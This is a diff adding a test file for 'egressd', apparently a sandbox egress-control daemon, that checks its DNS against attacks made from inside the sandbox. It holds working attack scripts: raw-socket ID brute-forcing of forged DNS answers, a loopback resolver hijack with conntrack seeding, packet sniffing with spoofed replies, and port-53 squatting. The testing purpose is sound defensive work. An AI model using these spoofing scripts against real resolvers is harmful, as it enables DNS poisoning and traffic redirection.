@@ -1,0 +1,880 @@
+"""The DNS half of issue 14 ("Enforcement integrity"): attacks a process in the sandbox can make
+on egressd's DNS, performed as that process would, against the real kernel.
+
+The attacker runs in the sandbox namespace as uid 65534 with no capability, or as root with only
+Docker's default NET_RAW and NET_BIND_SERVICE (setpriv), with Docker's
+`net.ipv4.ip_unprivileged_port_start=0` where it matters:
+
+  class 2   forged upstream answers: brute-forcing the ID against the port read from
+            /proc/net/udp, with raw IP (NET_RAW) or an IPv6 FREEBIND socket (no capability),
+            teaches egressd nothing; a 2^31 TTL is capped (dns.max_ttl);
+  class 3   a loopback upstream (Docker's 127.0.0.11, emulated: a resolver on 127.0.0.11:<random>
+            behind Docker's DNAT) is owned by egressd on port 53, and cannot be hijacked after DNS
+            was idle (a flow pre-created from 127.0.0.11:53);
+  class 7   learn guards: broadcast, multicast, 240/4, NAT64/6to4/mapped forms; private ranges not
+            learned from wildcard matches unless dns.private_answers: allow; explain and the
+            rebinding_guard event name the guard;
+  class 8   a query with extra records and EDNS options reaches the upstream rebuilt and bare;
+  class 10  port 53 squatted while egressd was down: egressd comes up on another port, enforces,
+            answers DNS and its control socket;
+  Docker    allowlisted names and Compose service names resolve through Docker's resolver with
+            no loop; no-network refuses and the upstream sees nothing; the forwarder target is
+            pinned (probe, or resolv.conf's ExtServers) and survives a restart; a copy of
+            egressd's in-flight query is relayed to that target only.
+
+Every name carries a random label. Nothing is sent anywhere but documentation addresses.
+"""
+import json
+import random
+import re
+import socket
+import struct
+import subprocess
+import sys
+import textwrap
+import time
+from pathlib import Path
+
+import pytest
+
+import lab as labmod
+from lab import DEFAULT_CNAMES, DEFAULT_HOSTS, DNS_V4, DNS_V6
+
+HERE = Path(__file__).resolve().parent
+WILD_V4, WILD_V6 = "203.0.113.10", "2001:db8:3::10"
+FORGED_V4, FORGED_V6 = "203.0.113.66", "2001:db8:3::66"  # the attacker's "answer": reachable in the lab
+SILENT_V4, SILENT_V6 = "198.51.100.99", "2001:db8:2::99"  # routed to the internet side, never answered
+NOBODY = ("--reuid=65534", "--regid=65534", "--clear-groups")
+DOCKER_CAPS = "-all,+net_raw,+net_bind_service"
+FAST = 0.5
+
+
+def tok(prefix: str = "t") -> str:
+    return f"{prefix}{random.getrandbits(40):010x}"
+
+
+def policy(upstream, hosts=("*.wild.example.org",), dns: str = "", extra: str = "") -> str:
+    ups = ", ".join(json.dumps(u) for u in ([upstream] if isinstance(upstream, str) else upstream))
+    return f"""\
+initial_phase: agent
+dns: {{ upstream: [{ups}]{', ' + dns if dns else ''} }}
+phases:
+  environment: public
+  agent:
+    network_mode: allowlist
+    allowed_hosts: [{', '.join(json.dumps(h) for h in hosts)}]
+  verifier: {{ network_mode: no-network }}
+{extra}"""
+
+
+def serve(lab, hosts=None, wildcards=None, **kw):
+    lab.dns.restart(hosts={**DEFAULT_HOSTS, **(hosts or {})}, cnames=DEFAULT_CNAMES,
+                    wildcards={"wild.example.org": [WILD_V4, WILD_V6], **(wildcards or {})}, **kw)
+
+
+def learned_set(lab, family: int = 4, chain: str = "ph_agent") -> dict:
+    rc, out, err = lab.nft(lab.sandbox, "-j", "list", "set", "inet", "egressd", f"{chain}_d{family}")
+    assert rc == 0, err
+    for obj in json.loads(out)["nftables"]:
+        if "set" in obj:
+            elems = {}
+            for e in obj["set"].get("elem", []):
+                if isinstance(e, dict) and "elem" in e:
+                    elems[e["elem"]["val"]] = e["elem"]
+                else:
+                    elems[str(e)] = {}
+            return elems
+    raise AssertionError(f"no set {chain}_d{family}")
+
+
+def rejected(out) -> bool:
+    return out in ("refused", "unreachable") and out.elapsed < FAST
+
+
+def attacker(lab, script: str, *args, uid: bool = False, caps: str = "-all") -> subprocess.Popen:
+    """A process in the sandbox: uid 65534 (uid=True) or root, with only `caps`. It prints READY
+    once set up and one JSON line when done."""
+    ids = list(NOBODY) if uid else []
+    ambient = [f"--ambient-caps={caps}"] if uid and caps != "-all" else []
+    p = lab.spawn(["setpriv", *ids, f"--inh-caps={caps}", *ambient, f"--bounding-set={caps}", "--",
+                   sys.executable, "-c", script, *map(str, args)],
+                  netns=lab.sandbox, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    line = labmod._read_line(p, 10.0, "the attacker")
+    assert line == "READY", line
+    return p
+
+
+def attacker_result(p: subprocess.Popen, timeout: float = 30.0) -> dict:
+    out, err = p.communicate(timeout=timeout)
+    assert p.returncode == 0, err.decode(errors="replace")
+    out = getattr(p, "_lab_pending", b"") + out  # what _read_line read past READY
+    return json.loads(out.decode().strip().splitlines()[-1])
+
+
+def events(d, name: str) -> list[dict]:
+    """Audit events `name` from a daemon logging JSON."""
+    out = []
+    for line in d.log().splitlines():
+        if line.startswith("{"):
+            try:
+                e = json.loads(line)
+            except json.JSONDecodeError:
+                continue
+            if e.get("event") == name:
+                out.append(e)
+    return out
+
+
+# --- class 2: forged upstream answers ---------------------------------------------------------
+
+# Brute-forces the ID of egressd's upstream query: watches /proc/net/udp[6] for a socket connected
+# to the upstream's port 53, then sends the upstream's "answer" (the allowed name, lower-case as a
+# blind forger must write it, A FORGED with TTL 2^31-1) with every ID in turn, again and again,
+# to every such port it finds, until `seconds` pass. mode raw4: raw IPv4 (CAP_NET_RAW);
+# freebind6: an IPv6 UDP socket bound to the upstream's address with IPV6_FREEBIND (no capability;
+# port 53 is bindable because ip_unprivileged_port_start is 0, as under Docker).
+BRUTE = textwrap.dedent(r'''
+    import json, random, socket, struct, sys, time
+    mode, upstream, name, forged, seconds = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], float(sys.argv[5])
+    v6 = mode == "freebind6"
+    def proc_addr(text):
+        ip, port = text.split(":")
+        raw = bytes.fromhex(ip)
+        # the kernel prints each 32-bit word in host (little-endian) order
+        raw = b"".join(raw[i:i + 4][::-1] for i in range(0, len(raw), 4))
+        return socket.inet_ntop(socket.AF_INET6 if v6 else socket.AF_INET, raw), int(port, 16)
+    def targets():
+        out = set()
+        with open("/proc/net/udp6" if v6 else "/proc/net/udp") as f:
+            next(f)
+            for line in f:
+                p = line.split()
+                local, remote = proc_addr(p[1]), proc_addr(p[2])
+                if remote == (upstream, 53):
+                    out.add(local)
+        return out
+    qname = b"".join(bytes([len(l)]) + l.encode() for l in name.lower().split(".")) + b"\0"
+    rdata = socket.inet_pton(socket.AF_INET, forged)
+    payload = bytearray(struct.pack("!HHHHHH", 0, 0x8180, 1, 1, 0, 0) + qname + struct.pack("!HH", 1, 1)
+                        + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 0x7FFFFFFF, 4) + rdata)
+    if v6:
+        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+        s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND: no capability needed
+        s.bind((upstream, 53))
+    else:
+        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # CAP_NET_RAW
+    s.setblocking(False)
+    print("READY", flush=True)
+    ports, sent, sweeps = set(), 0, 0
+    deadline = time.monotonic() + seconds
+    ids = list(range(65536))
+    while time.monotonic() < deadline:
+        for local, port in targets():
+            ports.add(port)
+            random.shuffle(ids)
+            if v6:
+                pkt, off, dst = payload, 0, (local, port)
+            else:
+                udp = struct.pack("!HHHH", 53, port, 8 + len(payload), 0)  # checksum 0: none (IPv4)
+                ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(payload), 0, 0, 64, 17, 0,
+                                 socket.inet_aton(upstream), socket.inet_aton(local))
+                pkt, off, dst = bytearray(ip + udp + payload), 28, (local, 0)
+            for qid in ids:
+                struct.pack_into("!H", pkt, off, qid)
+                try:
+                    s.sendto(pkt, dst)
+                    sent += 1
+                except (BlockingIOError, OSError):
+                    pass
+                if time.monotonic() > deadline:
+                    break
+            sweeps += 1
+    print(json.dumps({"ports": sorted(ports), "sent": sent, "sweeps": sweeps}))
+''')
+
+
+@pytest.mark.parametrize("how", ["raw4-net_raw", "freebind6-nobody"])
+@pytest.mark.parametrize("phase", ["agent", "verifier"], ids=["allowlist", "no-network"])
+def test_forged_upstream_answers_teach_nothing(lab, egressd, how, phase):
+    """The upstream never answers; the attacker has the whole query lifetime to guess the ID. A
+    forged answer must never be learned (nor reach the client as an address): egressd takes only
+    an answer that echoes its query's 0x20 case exactly, on a socket that lives for one query."""
+    v6 = how.startswith("freebind6")
+    upstream = SILENT_V6 if v6 else SILENT_V4
+    forged = FORGED_V4
+    lab.add_servers([forged])
+    serve(lab)
+    d = egressd(policy(upstream), phase=phase)
+    name_of = lambda i: f"q{i}.{t}.wild.example.org"  # noqa: E731
+    t = tok()
+    if v6:
+        lab.sandbox.sysctl("net.ipv4.ip_unprivileged_port_start", 0)  # as Docker sets it
+        p = attacker(lab, BRUTE, "freebind6", upstream, name_of(0), forged, 6.0, uid=True)
+    else:
+        p = attacker(lab, BRUTE, "raw4", upstream, name_of(0), forged, 6.0, caps=DOCKER_CAPS)
+    answers = []
+    for i in range(3):  # three queries: three lifetimes to attack
+        r = lab.dns_query(name_of(0), timeout=3.0)
+        answers.append((r.outcome, r.rcode, r.addresses))
+    res = attacker_result(p)
+    print(f"\nattacker ({how}, {phase}): {res['sent']} forged answers in {res['sweeps']} sweeps over ports "
+          f"{res['ports'][:8]}; answers {answers}")
+    if phase == "agent":
+        assert res["ports"] and res["sweeps"] > 0, f"the attack never found egressd's upstream socket: {res}"
+        for outcome, rcode, addrs in answers:
+            assert forged not in addrs, f"a forged answer reached the client: {answers}"
+    else:
+        assert all(rcode == "REFUSED" for _, rcode, _ in answers), answers
+    assert forged not in learned_set(lab, 4), "egressd learned the forged address"
+    assert rejected(lab.tcp_connect(forged, labmod.ECHO_PORT)), "the forged address is reachable"
+    names = {e["name"]: e for e in d.ctl_json("status", "--json")["learned"]}
+    assert name_of(0) not in names, names
+
+
+def test_ttl_of_2_pow_31_is_capped(lab, egressd):
+    """An upstream (or whoever runs an allowed wildcard's zone) answers with TTL 2^31-1: the
+    learned element lives dns.max_ttl (default 1 h) + 10 s, the client sees at most max_ttl, and a
+    smaller max_ttl caps both."""
+    serve(lab, ttl=2147483647)
+    d = egressd(policy(DNS_V4))
+    name = f"{tok()}.wild.example.org"
+    r = lab.dns_query(name)
+    assert r.rcode == "NOERROR" and r.addresses == [WILD_V4], r
+    assert r.ttl(WILD_V4) == 3600, r.records
+    assert learned_set(lab, 4)[WILD_V4]["timeout"] == 3610
+    d.restart(config=lab.write_config(policy(DNS_V4, dns="max_ttl: 5m"), "max.yaml"))
+    r = lab.dns_query(f"{tok()}.wild.example.org", "AAAA")
+    assert r.ttl(WILD_V6) == 300, r.records
+    assert learned_set(lab, 6)[WILD_V6]["timeout"] == 310
+
+
+# --- class 8: the forwarded query -----------------------------------------------------------------
+
+RECORDER = "198.51.100.53"
+
+
+def start_recorder(lab) -> Path:
+    log = lab.tmp / f"recorder-{random.getrandbits(24):06x}.jsonl"
+    lab.internet.ip("addr", "add", f"{RECORDER}/32", "dev", "lo")
+    p = lab.spawn([sys.executable, str(HERE / "dnsserver.py"), "record", "--addr", RECORDER, "--port", 53, "--answer", WILD_V4,
+                   "--log", str(log)], netns=lab.internet, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                  stderr=subprocess.PIPE)
+    assert labmod._read_line(p, 10.0, "the recording DNS server").startswith("READY")
+    return log
+
+
+def recorded(log: Path, token: str) -> list[bytes]:
+    if not log.exists():
+        return []
+    out = []
+    for line in log.read_text().splitlines():
+        e = json.loads(line)
+        if e.get("kind") == "query" and token in e["name"]:
+            out.append(bytes.fromhex(e["hex"]))
+    return out
+
+
+def stuffed_query(name: str, qid: int) -> bytes:
+    """A query with a payload channel: AA/AD/CD and Z set, two additional records and an OPT with
+    DO, a cookie and 3000 bytes of padding."""
+    q = bytearray(labmod.dns_build_query(name, "A", qid))
+    q[2] |= 0x04
+    q[3] |= 0x70
+    q[11] = 3
+    q += b"\x05extra\x07example\x00" + struct.pack("!HHIH", 16, 1, 60, 9) + b"\x08payload!"
+    q += b"\x04more\x07example\x00" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton("192.0.2.99")
+    opts = struct.pack("!HH", 10, 8) + b"cookie!!" + struct.pack("!HH", 12, 3000) + b"\xab" * 3000
+    q += b"\x00" + struct.pack("!HHIH", 41, 4096, 0x8000, len(opts)) + opts
+    return bytes(q)
+
+
+@pytest.mark.parametrize("transport", ["udp", "tcp"])
+def test_client_payload_never_reaches_the_upstream(lab, egressd, transport):
+    """What reached the upstream is recorded byte for byte: a new ID, the question (random case),
+    RD and CD, one bare OPT with the DO bit, and nothing else of the client's message."""
+    log = start_recorder(lab)
+    egressd(policy(RECORDER))
+    t = tok()
+    name = f"{t}.wild.example.org"
+    q = stuffed_query(name, 0x4141)
+    s = lab.sandbox.socket(socket.AF_INET, socket.SOCK_STREAM if transport == "tcp" else socket.SOCK_DGRAM)
+    with s:
+        s.settimeout(3)
+        s.connect((DNS_V4, 53))
+        if transport == "tcp":
+            s.sendall(struct.pack("!H", len(q)) + q)
+            n = struct.unpack("!H", s.recv(2, socket.MSG_WAITALL))[0]
+            a = s.recv(n, socket.MSG_WAITALL)
+        else:
+            s.send(q)
+            a = s.recv(65535)
+    qid, rcode, records = labmod.dns_parse_reply(a)
+    assert (qid, rcode, [r.data for r in records]) == (0x4141, "NOERROR", [WILD_V4])
+    got = labmod.wait_for(lambda: recorded(log, t), 5.0, "the upstream to record the query")
+    assert len(got) == 1, got
+    up = got[0]
+    qd_end = 12 + len(labmod.dns_build_query(name, "A", 0)) - 12
+    head = struct.unpack_from("!HHHHHH", up)
+    assert head[0] != 0x4141, "the client's ID reached the upstream"
+    assert head[1] == 0x0110, f"flags {head[1]:#06x}: only RD and CD may come from the client"
+    assert head[2:] == (1, 0, 0, 1), f"counts {head[2:]}: one question and one OPT"
+    assert up[12:qd_end].lower() == q[12:qd_end].lower(), "the question"
+    assert up[qd_end:] == b"\x00" + struct.pack("!HHIH", 41, 4096, 0x8000, 0), f"not a bare OPT: {up[qd_end:].hex()}"
+    assert b"payload!" not in up and b"cookie!!" not in up and len(up) == qd_end + 11
+
+
+# --- class 7: learn guards --------------------------------------------------------------------------
+
+GUARDED = {
+    # name label -> (answers, guard that must apply to a wildcard match)
+    "bcast": (["255.255.255.255"], "255.255.255.255 (broadcast)"),
+    "mcast": (["224.0.0.251", "ff02::fb"], "multicast"),
+    "resv": (["240.0.0.1"], "240.0.0.0/4 (reserved)"),
+    "nat64": (["64:ff9b::a9fe:a9fe"], "169.254.169.254 (cloud metadata) in NAT64 64:ff9b::/96"),
+    "sixtofour": (["2002:7f00:1::1"], "127.0.0.0/8 (loopback) in 6to4 2002::/16"),
+    "mapped": (["::ffff:127.0.0.1"], "127.0.0.0/8 (loopback) in IPv4-mapped ::ffff:0:0/96"),
+    "priv": (["10.1.2.3", "fd00:1::5"], "private"),
+    "cgnat": (["100.64.1.1"], "100.64.0.0/10 (shared, CGNAT)"),
+}
+
+
+@pytest.mark.parametrize("private_answers", ["exact", "allow"])
+def test_learn_guards(lab, egressd, private_answers):
+    t = tok()
+    hosts = {f"{label}.{t}.rebind.example.org": addrs for label, (addrs, _) in GUARDED.items()}
+    # An exact name with a private address: a Compose service name, say.
+    service = f"db.{t}.compose.example"
+    hosts[service] = ["10.9.8.7"]
+    hosts[f"ok.{t}.rebind.example.org"] = [WILD_V4]
+    serve(lab, hosts=hosts)
+    # The default (exact) is left unsaid: the policy file is the same as before this key existed.
+    d = egressd(policy(DNS_V4, hosts=["*.rebind.example.org", service],
+                       dns="private_answers: allow" if private_answers == "allow" else ""),
+                extra=["--log-format", "json"])
+    for name, addrs in hosts.items():
+        for qtype in {"AAAA" if ":" in a else "A" for a in addrs}:
+            r = lab.dns_query(name, qtype)
+            assert r.outcome == "ok" and r.rcode == "NOERROR", (name, qtype, r)
+    v4, v6 = set(learned_set(lab, 4)), set(learned_set(lab, 6))
+    allow = private_answers == "allow"
+    assert v4 == {WILD_V4, "10.9.8.7"} | ({"10.1.2.3", "100.64.1.1"} if allow else set()), v4
+    assert v6 == ({"fd00:1::5"} if allow else set()), v6
+    # The audit event and explain name the guard that applied.
+    guard_events = {(e["name"], e["address"]): e for e in events(d, "rebinding_guard")}
+    for label, (addrs, guard) in GUARDED.items():
+        name = f"{label}.{t}.rebind.example.org"
+        for a in addrs:
+            if allow and label in ("priv", "cgnat"):
+                assert (name, a) not in guard_events
+                continue
+            e = guard_events.get((name, a))
+            assert e is not None, f"no rebinding_guard event for {name} {a}: {sorted(guard_events)}"
+            assert guard in e["guard"] and e["match"] == "wildcard" and e["learned"] is False, e
+            j = d.ctl_json("explain", a, "--json")
+            assert j["allowed"] is False and j["guard"] and guard in j["guard"], (a, j["reason"], j)
+            if label not in ("bcast", "mcast"):  # those are denied as group addresses whatever resolved to them
+                assert name in j["reason"], j
+    if not allow:
+        j = d.ctl_json("explain", "10.1.2.3", "--json")
+        assert "wildcard" in j["reason"] and "private_answers" in j["reason"], j
+    j = d.ctl_json("explain", "10.9.8.7", "--json")
+    assert j["allowed"] is True and j["entry"] == service and j["guard"] is None, j
+
+
+# --- class 3 and Docker: a loopback upstream ----------------------------------------------------
+
+
+class DockerResolver:
+    """Docker's embedded resolver as Docker 20.10 sets it up on a user-defined network, in the lab's
+    sandbox namespace: a resolver on 127.0.0.11:<random port> (UDP and TCP) behind DNAT rules
+    from 127.0.0.11:53 at nat output priority -100 (and the SNAT back), answering `services` itself
+    and forwarding every other query as received to the lab's DNS (192.0.2.1) from inside the
+    namespace; resolv.conf would say `nameserver 127.0.0.11`."""
+
+    def __init__(self, lab, services=None, slow=None, forward=DNS_V4):
+        self.lab = lab
+        self.log_path = lab.tmp / f"dockerlike-{random.getrandbits(24):06x}.jsonl"
+        args = [sys.executable, str(HERE / "dnsserver.py"), "docker", "--addr", "127.0.0.11", "--forward", forward,
+                "--log", str(self.log_path)]
+        for name, addr in (services or {}).items():
+            args += ["--service", f"{name}={addr}"]
+        for label, ms in (slow or {}).items():
+            args += ["--slow", f"{label}={ms}"]
+        self.proc = lab.spawn(args, netns=lab.sandbox, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                              stderr=subprocess.PIPE)
+        line = labmod._read_line(self.proc, 10.0, "the Docker-like resolver")
+        assert line.startswith("READY "), line
+        self.port = int(line.split()[1])
+        p = self.port
+        lab.nft(lab.sandbox, "-f", "-", check=True, input=f"""\
+table ip dockerlike {{
+  chain output {{
+    type nat hook output priority -100; policy accept;
+    ip daddr 127.0.0.11 udp dport 53 dnat to 127.0.0.11:{p}
+    ip daddr 127.0.0.11 tcp dport 53 dnat to 127.0.0.11:{p}
+  }}
+  chain postrouting {{
+    type nat hook postrouting priority 100; policy accept;
+    ip saddr 127.0.0.11 udp sport {p} snat to 127.0.0.11:53
+    ip saddr 127.0.0.11 tcp sport {p} snat to 127.0.0.11:53
+  }}
+}}
+""")
+
+    def events(self, kind: str | None = None, token: str = "") -> list[dict]:
+        if not self.log_path.exists():
+            return []
+        out = []
+        for line in self.log_path.read_text().splitlines():
+            e = json.loads(line)
+            if (kind is None or e["kind"] == kind) and token in e.get("name", ""):
+                out.append(e)
+        return out
+
+
+def docker_egressd(lab, egressd, hosts=("*.wild.example.org", "db"), phase=None, extra=(), **kw):
+    """egressd with Docker's resolver as its upstream; waits until the forwarder target is pinned."""
+    d = egressd(policy("127.0.0.11", hosts=hosts), phase=phase, extra=["--log-format", "json", *extra], **kw)
+    try:
+        labmod.wait_for(lambda: events(d, "forwarder_pinned"), 5.0, "egressd to pin Docker's forwarder target")
+    except labmod.LabError:
+        pass  # the test's own checks say what does not work
+    return d
+
+
+@pytest.mark.parametrize("phase", ["agent", "verifier"], ids=["allowlist", "no-network"])
+def test_loopback_upstream_address_is_owned_by_egressd(lab, egressd, phase):
+    """With 127.0.0.11 as upstream, 127.0.0.11:53 (which Docker leaves free: its resolver listens on
+    a random port behind the DNAT) is egressd's, UDP and TCP: no process of the sandbox can bind it
+    and answer in the upstream's name, whatever its uid (Docker: ip_unprivileged_port_start=0)."""
+    serve(lab)
+    lab.sandbox.sysctl("net.ipv4.ip_unprivileged_port_start", 0)
+    DockerResolver(lab)
+    egressd(policy("127.0.0.11"), phase=phase)
+    probe = textwrap.dedent('''
+        import json, socket
+        print("READY", flush=True)
+        out = {}
+        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
+            s = socket.socket(socket.AF_INET, kind)
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            try:
+                s.bind(("127.0.0.11", 53))
+                out["udp" if kind == socket.SOCK_DGRAM else "tcp"] = "bound"
+            except OSError as e:
+                out["udp" if kind == socket.SOCK_DGRAM else "tcp"] = e.strerror
+        print(json.dumps(out))
+    ''')
+    for uid, caps in ((True, "-all"), (False, DOCKER_CAPS)):
+        res = attacker_result(attacker(lab, probe, uid=uid, caps=caps))
+        assert res == {"udp": "Address already in use", "tcp": "Address already in use"}, (uid, caps, res)
+
+
+# A sandbox process (uid 65534, no capability, Docker's ip_unprivileged_port_start=0) that, after
+# DNS was idle, binds 127.0.0.11:53, sends one datagram from there to egressd's upstream port (read
+# from /proc/net/udp) to pre-create a conntrack entry, then answers whatever reaches it with FORGED.
+HIJACK = textwrap.dedent(r'''
+    import json, socket, struct, sys, time
+    forged, seconds = sys.argv[1], float(sys.argv[2])
+    out = {"bound": False, "seeded": [], "answered": 0}
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    try:
+        s.bind(("127.0.0.11", 53))
+        out["bound"] = True
+    except OSError as e:
+        out["bind_error"] = e.strerror
+    print("READY", flush=True)
+    def egressd_ports():
+        ports = set()
+        with open("/proc/net/udp") as f:
+            next(f)
+            for line in f:
+                p = line.split()
+                if p[2] == "0B00007F:0035":  # connected to 127.0.0.11:53
+                    ports.add(int(p[1].split(":")[1], 16))
+        return ports
+    deadline = time.monotonic() + seconds
+    s.settimeout(0.05)
+    while out["bound"] and time.monotonic() < deadline:
+        for port in egressd_ports() - set(out["seeded"]):
+            s.sendto(b"\0" * 12, ("127.0.0.1", port))
+            out["seeded"].append(port)
+        try:
+            q, peer = s.recvfrom(4096)
+        except socket.timeout:
+            continue
+        i = 12
+        while q[i]:
+            i += 1 + q[i]
+        a = q[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q[12:i + 5]
+        a += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 0x7FFFFFFF, 4) + socket.inet_aton(forged)
+        s.sendto(a, peer)
+        out["answered"] += 1
+    print(json.dumps(out))
+''')
+
+
+def conntrack_flush(lab):
+    """Empties the sandbox's conntrack table (ctnetlink IPCTNL_MSG_CT_DELETE without attributes),
+    which is what an idle spell of the UDP timeout (30-120 s) does to egressd's DNS flows."""
+    def flush():
+        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)  # NETLINK_NETFILTER
+        with s:
+            for family in (socket.AF_INET, socket.AF_INET6):
+                # nlmsghdr: len, type (NFNL_SUBSYS_CTNETLINK << 8 | IPCTNL_MSG_CT_DELETE), flags (REQUEST|ACK)
+                msg = struct.pack("=IHHII", 20, (1 << 8) | 2, 0x1 | 0x4, 1, 0) + struct.pack("=BBH", family, 0, 0)
+                s.send(msg)
+                reply = s.recv(4096)
+                err = struct.unpack_from("=i", reply, 16)[0]
+                assert err in (0, -2), f"conntrack flush: error {err}"
+    labmod.call_in_netns(lab.sandbox.path, flush)
+
+
+def test_loopback_upstream_cannot_be_hijacked_after_dns_is_idle(lab, egressd):
+    serve(lab)
+    lab.add_servers([FORGED_V4])
+    lab.sandbox.sysctl("net.ipv4.ip_unprivileged_port_start", 0)
+    docker = DockerResolver(lab)
+    d = egressd(policy("127.0.0.11"))
+    # DNS works, then sits idle until its flows are gone from conntrack.
+    lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
+    conntrack_flush(lab)
+    p = attacker(lab, HIJACK, FORGED_V4, 4.0, uid=True)
+    t = tok()
+    answers = []
+    for i in range(3):
+        r = lab.dns_query(f"h{i}.{t}.wild.example.org", timeout=3.0)
+        answers.append((r.rcode, r.addresses))
+    res = attacker_result(p)
+    print(f"\nhijack attempt: {res}; answers {answers}; docker saw {len(docker.events('query', t))} queries")
+    assert not res["bound"], f"a sandbox process bound 127.0.0.11:53: {res}"
+    assert all(FORGED_V4 not in a for _, a in answers), answers
+    assert FORGED_V4 not in learned_set(lab, 4)
+    assert rejected(lab.tcp_connect(FORGED_V4, labmod.ECHO_PORT))
+    assert d.running
+
+
+# A root process with only NET_RAW: pre-creates a conntrack entry from 127.0.0.11:53 to every
+# ephemeral port of 127.0.0.1 (raw IPv4), then sniffs loopback for egressd's queries to
+# 127.0.0.11 and answers each, exactly (ID and case copied), from 127.0.0.11:53 with FORGED.
+HIJACK_RAW = textwrap.dedent(r'''
+    import json, socket, struct, sys, time
+    forged, seconds = sys.argv[1], float(sys.argv[2])
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    sniff.bind(("lo", 0))
+    sniff.settimeout(0.05)
+    lo = socket.inet_aton("127.0.0.1")
+    resolver = socket.inet_aton("127.0.0.11")
+    def ip_udp(src, sport, dst, dport, payload):
+        udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 64, 17, 0, src, dst)
+        return ip + udp + payload
+    print("READY", flush=True)
+    lo_port, hi_port = (int(x) for x in open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
+    seeded = 0
+    for port in range(lo_port, hi_port + 1):
+        raw.sendto(ip_udp(resolver, 53, lo, port, b"\0" * 12), ("127.0.0.1", 0))
+        seeded += 1
+    answered = 0
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        try:
+            frame = sniff.recv(65535)
+        except socket.timeout:
+            continue
+        pkt = frame[14:]
+        if len(pkt) < 40 or pkt[9] != 17 or pkt[16:20] != resolver or pkt[12:16] != lo:
+            continue
+        ihl = (pkt[0] & 0xF) * 4
+        sport = struct.unpack_from("!H", pkt, ihl)[0]
+        q = pkt[ihl + 8:]
+        if len(q) < 17 or q[2] & 0x80:
+            continue
+        i = 12
+        while q[i]:
+            i += 1 + q[i]
+        a = q[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q[12:i + 5]
+        a += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 0x7FFFFFFF, 4) + socket.inet_aton(forged)
+        raw.sendto(ip_udp(resolver, 53, lo, sport, a), ("127.0.0.1", 0))
+        answered += 1
+    print(json.dumps({"seeded": seeded, "answered": answered}))
+''')
+
+
+def test_loopback_upstream_precreated_flows_and_sniffed_answers_with_net_raw(lab, egressd):
+    """The NET_RAW form of the hijack: every possible flow from 127.0.0.11:53 is pre-created and
+    egressd's query, sniffed on loopback, is answered exactly from 127.0.0.11:53. What stops it
+    is the ruleset (engineer A, issue 14 plan): egressd's own traffic is exempt only in the
+    original direction of a flow it created, and original-direction packets to egressd's marked
+    upstream sockets are dropped in chain input."""
+    serve(lab)
+    lab.add_servers([FORGED_V4])
+    DockerResolver(lab)
+    d = egressd(policy("127.0.0.11"))
+    rc, out, _ = lab.nft(lab.sandbox, "list", "table", "inet", "egressd")
+    if "chain input" not in out:
+        pytest.skip("waits on the ruleset of branch i14-nft (chain input: socket mark <own> ct direction "
+                    "original drop; ct direction original on the own-traffic exemption)")
+    lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
+    conntrack_flush(lab)
+    p = attacker(lab, HIJACK_RAW, FORGED_V4, 5.0, caps=DOCKER_CAPS)
+    t = tok()
+    answers = []
+    for i in range(3):
+        r = lab.dns_query(f"h{i}.{t}.wild.example.org", timeout=3.0)
+        answers.append((r.rcode, r.addresses))
+    res = attacker_result(p)
+    print(f"\nNET_RAW hijack attempt: {res}; answers {answers}")
+    assert all(FORGED_V4 not in a for _, a in answers), answers
+    assert FORGED_V4 not in learned_set(lab, 4)
+    assert rejected(lab.tcp_connect(FORGED_V4, labmod.ECHO_PORT))
+    assert d.running
+
+
+# --- class 10: port 53 squatted while egressd was down ----------------------------------------------
+
+SQUAT = textwrap.dedent(r'''
+    import json, select, socket, sys, time
+    seconds = float(sys.argv[1])
+    socks = []
+    for fam, addr in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
+        s = socket.socket(fam, socket.SOCK_DGRAM)
+        s.bind((addr, 53))
+        socks.append(s)
+    print("READY", flush=True)
+    got = 0
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        r, _, _ = select.select(socks, [], [], 0.05)
+        for s in r:
+            s.recv(4096)
+            got += 1
+    print(json.dumps({"received": got}))
+''')
+
+
+@pytest.mark.parametrize("phase", ["agent", "verifier"], ids=["allowlist", "no-network"])
+def test_port_53_squatted_across_a_restart(lab, egressd, phase):
+    """Under Docker (ip_unprivileged_port_start=0) any uid can take 127.0.0.1:53 and [::1]:53 while
+    egressd is down. The restarted egressd must come up anyway: another port for its proxy (the
+    redirect follows), the policy enforced, DNS answered, the control socket served, and a warning
+    with the fix."""
+    serve(lab)
+    lab.sandbox.sysctl("net.ipv4.ip_unprivileged_port_start", 0)
+    d = egressd(policy(DNS_V4), phase=phase)
+    d.stop()
+    squatter = attacker(lab, SQUAT, 8.0, uid=True)
+    d.start()
+    assert d.request({"cmd": "ping"}).get("ok") is True
+    assert "ip_unprivileged_port_start=1024" in d.log(), "no warning with the fix"
+    t = tok()
